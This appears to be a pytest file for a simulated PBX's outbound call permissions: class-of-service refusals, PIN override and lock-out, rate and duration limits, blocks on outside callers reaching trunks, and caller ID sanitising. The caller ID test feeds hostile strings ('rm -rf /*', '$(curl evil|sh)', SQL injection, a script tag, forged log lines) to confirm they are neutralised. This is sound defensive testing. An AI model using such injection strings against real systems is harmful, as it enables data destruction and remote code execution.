"""Outbound permissions on the simulated board: classes of service, intercept, PIN override and its
lock-out, call-rate limit, maximum duration, and the abuse cases of issue 5 (an outside caller must
never reach an outside line; transfers/forwards of outside callers go through the same gate)."""
from __future__ import annotations

import logging

import pytest

from firmware.apps import permissions_store as store
from firmware.apps.permissions import SIT_TONES, WARNING_FREQ, Decision, Origin
from firmware.calls import Call
from firmware.config import ConfigError
from firmware.harness import Pbx, dominant_freqs, tone_level

CODE = "48015736"            # long enough not to turn up by chance in timestamps or hashes


@pytest.fixture
def pbx():
    with Pbx(country="US", seed=3) as p:
        p.run(0.2)
        yield p


def settle(pbx: Pbx) -> None:
    pbx.run(0.1)            # the engine reloads config changes on its own thread's next tick


def records(pbx: Pbx) -> list[dict]:
    pbx.records.flush()
    return sorted(pbx.records.search(), key=lambda r: r["start"])


def reasons(pbx: Pbx) -> dict[str, str]:
    recs = records(pbx)
    return pbx.records.reasons(r["call_id"] for r in recs)


class LineWatch:
    """Steps the board while noting every frame in which an FXO port was off hook."""

    def __init__(self, pbx: Pbx):
        self.pbx = pbx
        self.seized: set[str] = set()

    def run(self, seconds: float) -> None:
        for _ in range(round(seconds * 100)):
            self.pbx.media.step()
            self._look()

    def run_until(self, predicate, timeout_s: float) -> None:
        self.pbx.run_until(lambda: self._look() or predicate(), timeout_s)

    def _look(self) -> None:
        for ch in self.pbx.engine.fxo:
            if ch.port.is_off_hook:
                self.seized.add(ch.name)


def dial(pbx: Pbx, ext: str, digits: str, watch: LineWatch | None = None):
    phone = pbx.phone(ext)
    port = pbx.engine.plan.extensions[ext].port
    phone.off_hook()
    pbx.run_until(lambda: pbx.state(port) == "dialtone", 2)
    pbx.run(0.3)
    phone.dial(digits)
    if watch is None:
        pbx.run_until(lambda: not phone.busy_dialling, 30)
    else:
        watch.run_until(lambda: not phone.busy_dialling, 30)
    return phone


def assert_intercept(pbx: Pbx, phone, port: str, watch: LineWatch | None = None) -> None:
    """The refused caller hears the three rising SIT tones, then congestion."""
    (watch or pbx).run_until(lambda: pbx.state(port) == "congestion", 3)
    phone.clear_heard()
    (watch or pbx).run(2.0)
    heard = phone.heard(2000)
    start = 0
    for freq, ms in SIT_TONES:
        seg = heard[start * 8 + 160: (start + ms) * 8 - 160]
        assert dominant_freqs(seg, 1)[0] == pytest.approx(freq, abs=25), f"SIT {freq} Hz"
        start += ms + 30
    assert sorted(dominant_freqs(heard[-4000:], 2)) == pytest.approx([480, 620], abs=8)   # then congestion


def beeps(samples) -> tuple[int, float]:
    """Number of separate bursts of the warning tone and the loudest burst's level (dBm0)."""
    levels = [tone_level(samples[i:i + 400], WARNING_FREQ) for i in range(0, len(samples) - 399, 400)]
    on = [lv > -30 for lv in levels]
    bursts = sum(1 for i, x in enumerate(on) if x and (i == 0 or not on[i - 1]))
    return bursts, max(levels)


# ---------------------------------------------------------------- classes of service

def test_internal_only_extension_refused_premium_and_international_with_intercept_and_records(pbx):
    store.set_extension_policy(pbx.config, "201", "internal")
    settle(pbx)
    watch = LineWatch(pbx)
    for number in ("19005551234", "01144207946000", "5550100"):
        a = dial(pbx, "201", f"9{number}#", watch)
        assert_intercept(pbx, a, "fxs1", watch)
        a.on_hook()
        watch.run(0.5)
    assert watch.seized == set()                         # no line was ever taken off hook
    assert not pbx.co.calls and not pbx.co.history
    recs = records(pbx)
    why = reasons(pbx)
    assert [(r["dst"], r["disposition"], r["direction"]) for r in recs] == [
        ("19005551234", "denied", "outbound"), ("01144207946000", "denied", "outbound"),
        ("5550100", "denied", "outbound")]
    assert why[recs[0]["call_id"]] == "premium number denied for class internal (pattern 1900NXXXXXX)"
    assert why[recs[1]["call_id"]] == "international number not allowed for class internal"
    assert why[recs[2]["call_id"]] == "local number not allowed for class internal"


def test_emergency_number_always_reaches_a_line_even_from_internal_only(pbx):
    store.set_extension_policy(pbx.config, "201", "internal", calls_per_hour=1)
    settle(pbx)
    psap = pbx.co.remote("911")
    for _ in range(2):                                   # not counted against the rate limit either
        a = dial(pbx, "201", "9911#")
        pbx.run_until(lambda: psap.is_ringing, 8)
        a.on_hook()
        pbx.run_until(lambda: pbx.state("fxo1") == "idle" and not psap.is_ringing, 5)
        pbx.run(1.6)
    recs = records(pbx)
    assert [r["dst"] for r in recs] == ["911", "911"] and "denied" not in {r["disposition"] for r in recs}


def test_default_class_allows_national_but_refuses_premium_and_976(pbx):
    far = pbx.co.remote("12125550100")
    a = dial(pbx, "202", "912125550100#")
    pbx.run_until(lambda: far.is_ringing, 8)
    a.on_hook()
    pbx.run(2)
    for number in ("19005551234", "9765555"):
        b = dial(pbx, "202", f"9{number}#")
        assert_intercept(pbx, b, "fxs2")
        b.on_hook()
        pbx.run(0.3)
    assert [r["disposition"] for r in records(pbx)][1:] == ["denied", "denied"]


def test_owner_patterns_per_class_deny_beats_allow(pbx):
    # The owner lets "local" phones reach toll-free 1-800 numbers, but not one scam range.
    defaults = store.default_class_patterns("US")["local"]
    store.set_class_patterns(pbx.config, "local", "\n".join(defaults["allow"] + ["1800NXXXXXX"]),
                             "\n".join(defaults["deny"] + ["1800555XXXX"]))
    store.set_extension_policy(pbx.config, "203", "local")
    settle(pbx)
    eng = pbx.engine
    o = Origin(extension="203", channel="fxs3")
    assert eng.authorise_outside(o, "18002345678").allowed
    d = eng.authorise_outside(o, "18005551234")
    assert not d.allowed and "pattern 1800555XXXX" in d.reason
    assert not eng.authorise_outside(o, "12125550100").allowed          # national stays out
    store.reset_class_patterns(pbx.config, "local")
    settle(pbx)
    assert not eng.authorise_outside(o, "18002345678").allowed


# ---------------------------------------------------------------- PIN override

def test_authorisation_code_lifts_the_class_for_one_call_and_is_never_recorded(pbx):
    store.set_extension_policy(pbx.config, "201", "internal")
    store.add_auth_code(pbx.config, "Boss", CODE, "international")
    settle(pbx)
    far = pbx.co.remote("01144207946000")
    a = dial(pbx, "201", f"*0{CODE}")
    status = {p.port: p for p in pbx.control.snapshot()}
    assert status["fxs1"].detail == "*0" + "•" * len(CODE)       # the live status page never sees it
    a.dial("#")
    pbx.run_until(lambda: pbx.state("fxs1") == "dialtone", 2)   # accepted: dial tone again
    a.clear_heard()
    pbx.run(0.5)
    assert sorted(dominant_freqs(a.heard(400), 2)) == pytest.approx([350, 440], abs=8)
    a.dial("901144207946000#")
    pbx.run_until(lambda: far.is_ringing, 10)
    far.answer()
    pbx.run(0.5)
    a.clear_heard()
    far.play_tone([1000], 800, -12)
    pbx.run(1.0)
    assert tone_level(a.heard(600), 1000) == pytest.approx(-12, abs=2)
    a.on_hook()
    pbx.run(2)
    # The code was good for that one call only.
    b = dial(pbx, "201", "901144207946000#")
    assert_intercept(pbx, b, "fxs1")
    b.on_hook()
    pbx.run(0.3)
    recs = records(pbx)
    assert [(r["dst"], r["disposition"]) for r in recs] == [("01144207946000", "answered"),
                                                         ("01144207946000", "denied")]
    text = repr(recs) + repr(reasons(pbx)) + pbx.config.path.read_text()
    assert CODE not in text                      # neither the records nor the stored config hold it


def test_pin_brute_force_by_dtmf_locks_out_even_the_right_code(pbx):
    store.add_auth_code(pbx.config, "Boss", CODE, "international")
    store.update_general(pbx.config, pin_attempts=3, lockout_minutes=1)
    settle(pbx)
    watch = LineWatch(pbx)
    for guess in ("1111", "2580", "4827"):
        a = dial(pbx, "202", f"*0{guess}#", watch)
        assert_intercept(pbx, a, "fxs2", watch)
        a.on_hook()
        watch.run(0.3)
    a = dial(pbx, "202", f"*0{CODE}#", watch)            # right code, but locked out now
    assert_intercept(pbx, a, "fxs2", watch)
    a.on_hook()
    watch.run(0.3)
    a = dial(pbx, "202", "901144207946000#", watch)       # and no elevated class slipped through
    assert_intercept(pbx, a, "fxs2", watch)
    a.on_hook()
    assert watch.seized == set()
    why = list(reasons(pbx).values())
    assert why.count("wrong authorisation code") == 2
    assert "wrong authorisation code; codes now locked out" in why
    assert "authorisation codes locked out after wrong codes" in why
    # Another extension is not locked by 202's failures (only by the global threshold).
    pbx.run(61)                                          # the lock-out ends
    far = pbx.co.remote("01144207946000")
    a = dial(pbx, "202", f"*0{CODE}#")
    pbx.run_until(lambda: pbx.state("fxs2") == "dialtone", 2)
    pbx.run(0.3)
    a.dial("901144207946000#")
    pbx.run_until(lambda: far.is_ringing, 10)


def test_code_left_unused_is_dropped_when_the_phone_hangs_up(pbx):
    store.set_extension_policy(pbx.config, "201", "internal")
    store.add_auth_code(pbx.config, "Boss", CODE, "international")
    settle(pbx)
    a = dial(pbx, "201", f"*0{CODE}#")
    pbx.run_until(lambda: pbx.state("fxs1") == "dialtone", 2)
    a.on_hook()                                          # walks away; someone else picks up
    pbx.run(1)
    b = dial(pbx, "201", "901144207946000#")
    assert_intercept(pbx, b, "fxs1")


# ---------------------------------------------------------------- rate and duration

def test_call_rate_limit_per_extension(pbx):
    store.set_extension_policy(pbx.config, "201", "national", calls_per_hour=2)
    settle(pbx)
    for i in range(2):
        far = pbx.co.remote(f"555010{i}")
        a = dial(pbx, "201", f"9555010{i}#")
        pbx.run_until(lambda far=far: far.is_ringing, 8)
        a.on_hook()
        pbx.run_until(lambda: pbx.state("fxo1") == "idle", 4)
        pbx.run(1.6)
    watch = LineWatch(pbx)
    a = dial(pbx, "201", "95550102#", watch)
    assert_intercept(pbx, a, "fxs1", watch)
    a.on_hook()
    assert watch.seized == set()
    recs = records(pbx)
    assert reasons(pbx)[recs[-1]["call_id"]] == "call-rate limit: 2 outside calls per hour reached"
    # 202 has its own budget (the general limit).
    far = pbx.co.remote("5550103")
    b = dial(pbx, "202", "95550103#")
    pbx.run_until(lambda: far.is_ringing, 8)
    b.on_hook()
    pbx.run_until(lambda: pbx.state("fxo1") == "idle" and pbx.state("fxo2") == "idle", 4)
    pbx.run(2)
    # The window rolls: an hour after the first two calls, 201 may call again. (The office is idle:
    # jump the engine's frame clock an hour instead of stepping 360 000 idle frames.)
    pbx.engine.clock.frame += 360_000
    pbx.run(0.1)
    far = pbx.co.remote("5550104")
    dial(pbx, "201", "95550104#")
    pbx.run_until(lambda: far.is_ringing, 8)


def test_maximum_duration_warns_then_tears_the_call_down(pbx):
    store.update_general(pbx.config, warning_s=10)
    store.set_extension_policy(pbx.config, "201", "national", max_minutes=1)
    settle(pbx)
    far = pbx.co.remote("5550100")
    a = dial(pbx, "201", "95550100#")
    pbx.run_until(lambda: pbx.board.fxo(1).is_off_hook, 1)
    seized_at = pbx.now                                  # the limit counts from the seizure
    pbx.run_until(lambda: far.is_ringing, 8)
    far.answer()
    pbx.run_until(lambda: pbx.now - seized_at >= 49.8, 60)
    a.clear_heard()
    far.clear_heard()
    pbx.run(1.6)
    assert beeps(a.heard(1600)) == (3, pytest.approx(-13, abs=1.5))   # the warning, both sides
    assert beeps(far.heard(1600))[0] == 3
    assert pbx.state("fxo1") == "in-call"
    a.clear_heard()
    far.clear_heard()
    far.play_tone([1000], 1000, -12)                                # still talking after the warning
    pbx.run(1.1)
    assert tone_level(a.heard(800), 1000) == pytest.approx(-12, abs=2)
    pbx.run_until(lambda: pbx.state("fxo1") == "idle", 12)
    assert pbx.now - seized_at == pytest.approx(60, abs=0.2)
    assert pbx.state("fxs1") == "busy" and not pbx.board.fxo(1).is_off_hook
    a.on_hook()
    pbx.run(1)
    (rec,) = records(pbx)
    assert rec["disposition"] == "answered"
    assert reasons(pbx) == {rec["call_id"]: "maximum call duration reached"}


# ---------------------------------------------------------------- outside callers

@pytest.mark.parametrize("when", ["ringing", "answered", "after"])
def test_inbound_caller_cannot_reach_an_outside_line_by_any_dialling(pbx, when):
    store.add_auth_code(pbx.config, "Boss", CODE, "premium")         # even knowing a valid code
    settle(pbx)
    watch = LineWatch(pbx)
    target = pbx.co.remote("5550199")
    r = pbx.co.remote("5550100")
    r.call(pbx.co.line_number(1), name="MALLORY")
    phone = pbx.phone("201")
    watch.run_until(lambda: phone.is_ringing, 10)
    if when != "ringing":
        phone.off_hook()
        watch.run(1)
        assert r.state == "connected"
    if when == "after":
        phone.on_hook()                                  # the line stays with the caller for a moment
        watch.run(0.2)
    for attempt in ("9", "95550199#", "*", "0", "#", f"*0{CODE}#95550199#", "*43", "0#", "##9#"):
        r.dial(attempt)
        watch.run(1.5)
    watch.run(5)
    assert "fxo2" not in watch.seized
    assert not target.is_ringing and target.state == "idle"
    assert all(c.callee is not target for c in pbx.co.history + pbx.co.calls)
    assert all(r_["direction"] == "inbound" for r_ in records(pbx))


def test_outside_caller_on_a_line_cannot_be_dialled_out_by_a_raw_call(pbx):
    """What a transfer helper might do: a Call from the inbound line, dialling on line 2."""
    r = pbx.co.remote("5550100")
    r.call(pbx.co.line_number(1))
    pbx.run_until(lambda: pbx.state("fxo1") == "ringing", 10)
    eng = pbx.engine
    inbound = next(c for c in eng.calls if c.a.name == "fxo1")
    line1, line2 = eng.channels["fxo1"], eng.channels["fxo2"]
    inbound.end("no_answer")
    line1.seize()
    watch = LineWatch(pbx)
    call = Call(eng, line1, "outbound", "5550100", "5550199", line="fxo2")
    call.dial_line(line2, "5550199")
    watch.run(3)
    assert call.ended and "fxo2" not in watch.seized
    assert reasons(pbx)[call.id].startswith("an outside caller may not be connected to an outside line")


def test_a_decision_made_up_by_a_feature_does_not_open_the_gate(pbx):
    store.set_extension_policy(pbx.config, "201", "internal")
    settle(pbx)
    eng = pbx.engine
    phone = pbx.phone("201")
    phone.off_hook()
    pbx.run(0.5)
    a = eng.channels["fxs1"]
    call = Call(eng, a, "outbound", "201", "19005551234", line="fxo1")
    call.outside_decision = Decision(True, "19005551234", "made up", "premium", "premium")
    watch = LineWatch(pbx)
    call.dial_line(eng.channels["fxo1"], "19005551234")
    watch.run(2)
    assert call.ended and watch.seized == set()
    assert reasons(pbx)[call.id] == "premium number denied for class internal (pattern 1900NXXXXXX)"


def test_transfer_and_forward_of_outside_callers_need_the_owners_permission(pbx):
    eng = pbx.engine
    transfer = Origin(extension="201", channel="fxs1", via="transfer", outside_party=True)
    forward = Origin(extension="201", channel="fxs1", via="forward", outside_party=True)
    d = eng.authorise_outside(transfer, "5550199")
    assert not d.allowed and "by transfer (not allowed by the owner)" in d.reason
    assert not eng.authorise_outside(forward, "5550199").allowed
    assert eng.authorise_outside(Origin(extension="201", channel="fxs1"), "5550199").allowed   # 201 itself may
    store.update_general(pbx.config, trunk_to_trunk={"transfer": True, "forward": True})
    settle(pbx)
    assert eng.authorise_outside(transfer, "5550199").allowed
    assert eng.authorise_outside(forward, "5550199").allowed
    d = eng.authorise_outside(forward, "19005551234")                 # forward to premium: still no
    assert not d.allowed and d.category == "premium"
    assert not eng.authorise_outside(forward, "911").allowed           # no relaying callers to 911
    store.set_extension_policy(pbx.config, "201", "internal")
    settle(pbx)
    assert not eng.authorise_outside(forward, "5550199").allowed       # the extension's class still rules


def test_disa_is_off_by_default_then_needs_a_code_and_obeys_its_class(pbx):
    with pytest.raises(ConfigError, match="DISA is disabled"):
        pbx.config.set_inbound_route("fxo1", "disa:main")
    with pytest.raises(ConfigError, match="at least one authorisation code"):
        store.set_disa(pbx.config, True, "national")
    store.add_auth_code(pbx.config, "Road warrior", "73915", "international")
    store.set_disa(pbx.config, True, "national")
    pbx.config.set_inbound_route("fxo1", "disa:main")
    settle(pbx)
    watch = LineWatch(pbx)
    r = pbx.co.remote("5550100")
    # A wrong code: intercept, line released.
    r.call(pbx.co.line_number(1))
    watch.run_until(lambda: r.state == "connected", 12)
    watch.run(0.5)
    r.dial("11111#")
    watch.run_until(lambda: pbx.state("fxo1") == "idle", 5)
    assert "fxo2" not in watch.seized
    r.hang_up()
    watch.run(2)
    # The right code, then an international number: beyond DISA's class (national) -> refused.
    r.call(pbx.co.line_number(1))
    watch.run_until(lambda: r.state == "connected", 12)
    watch.run(0.5)
    r.dial("73915#")
    watch.run(1)
    r.dial("01144207946000#")
    watch.run_until(lambda: pbx.state("fxo1") == "idle", 5)
    assert "fxo2" not in watch.seized
    r.hang_up()
    watch.run(2)
    # The right code and a national number: bridged line to line. (The far end's hang-up is sent
    # as a loop drop: busy tone on a line bridged to another line is a separate engine matter.)
    pbx.co.disconnect_signal = "loop_drop"
    far = pbx.co.remote("5550199")
    r.call(pbx.co.line_number(1))
    pbx.run_until(lambda: r.state == "connected", 12)
    pbx.run(0.5)
    r.dial("73915#")
    pbx.run(1)
    r.dial("5550199#")
    pbx.run_until(lambda: far.is_ringing, 10)
    far.answer()
    pbx.run(0.5)
    r.clear_heard()
    far.play_tone([1200], 800, -12)
    pbx.run(1.0)
    assert tone_level(r.heard(600), 1200) > -24          # through two lines and the CO twice
    far.hang_up()
    pbx.run_until(lambda: pbx.state("fxo1") == "idle" and pbx.state("fxo2") == "idle", 10)
    recs = records(pbx)
    why = reasons(pbx)
    denied = [why.get(x["call_id"]) for x in recs]
    assert "DISA: wrong authorisation code" in denied
    assert "international number not allowed for class national (authorisation code Road warrior)" in denied
    out = [x for x in recs if x["direction"] == "outbound" and x["disposition"] != "denied"]
    assert [(x["src"], x["dst"], x["line"]) for x in out] == [("fxo1", "5550199", "fxo2")]


# ---------------------------------------------------------------- untrusted caller ID

def test_caller_id_with_shell_characters_and_1kb_is_stored_verbatim_and_sent_clean(pbx, caplog):
    nasty_number = "5550100;rm -rf /*`reboot`$(id)|\r\nINFO fake log line"
    nasty_name = ("'; DROP TABLE calls;-- $(curl evil|sh) <script>alert(1)</script>\r\n\x00\x1b[31m"
                  * 20)[:1024]
    pbx.co.caller_id_enabled = False                     # only the hostile caller ID below arrives
    r = pbx.co.remote("5550100")
    r.call(pbx.co.line_number(1))
    eng = pbx.engine
    line = eng.channels["fxo1"]
    pbx.run_until(lambda: pbx.state("fxo1") == "ringing", 10)
    eng.on_caller_id(line, nasty_number, nasty_name)             # what the FSK decoder hands over
    phone = pbx.phone("201")
    pbx.run_until(lambda: phone.caller_id is not None, 12)
    assert set(phone.caller_id.number) <= set("0123456789*#") and len(phone.caller_id.number) <= 20
    assert len(phone.caller_id.name) <= 15 and phone.caller_id.name.isprintable()
    phone.off_hook()
    pbx.run(1)
    (call,) = eng.calls
    assert call.src == nasty_number
    # This caller is handed towards an outside line (as a careless transfer would): refused, and the
    # refusal is logged with the caller ID quoted, never as raw control characters or a forged line.
    phone.on_hook()
    pbx.run(0.5)
    line.seize()
    caplog.clear()
    with caplog.at_level(logging.INFO, logger="linebox.permissions"):
        raw = Call(eng, line, "outbound", call.src, "5550199", line="fxo2", cid_number=nasty_number)
        raw.dial_line(eng.channels["fxo2"], "5550199")
    pbx.run(2)
    denials = [m for m in caplog.messages if "denied" in m]
    assert len(denials) == 1 and repr(nasty_number[:40]) in denials[0]
    for msg in caplog.messages:
        assert not ({"\r", "\n", "\x00", "\x1b"} & set(msg))
    inbound, refused = records(pbx)
    assert inbound["caller_id_number"] == nasty_number and inbound["caller_id_name"] == nasty_name
    assert (refused["src"], refused["disposition"]) == (nasty_number, "denied")
    assert not pbx.board.fxo(2).is_off_hook


def test_numbers_that_are_not_digits_never_pass(pbx):
    eng = pbx.engine
    o = Origin(extension="201", channel="fxs1")
    for bad in ("555;0100", "5550100\n", "", "5" * 21, "+15550100", "*9", "$(id)"):
        assert not eng.authorise_outside(o, bad).allowed


def test_uk_de_cn_defaults_sort_numbers_into_classes():
    for country, allowed, refused in (
        ("UK", ["999", "7946000", "02079460000", "07700900123"], ["09011234567", "0044123456", "118118"]),
        ("DE", ["110", "3012345", "03012345678"], ["09001234567", "0044207", "11833"]),
        ("CN", ["120", "87654321", "13812345678"], ["16812345", "0086123"]),
    ):
        with Pbx(country=country, fxs=1, fxo=1) as p:
            eng = p.engine
            o = Origin(extension="201", channel="fxs1")
            for n in allowed:
                assert eng.authorise_outside(o, n).allowed, (country, n)
            for n in refused:
                assert not eng.authorise_outside(o, n).allowed, (country, n)

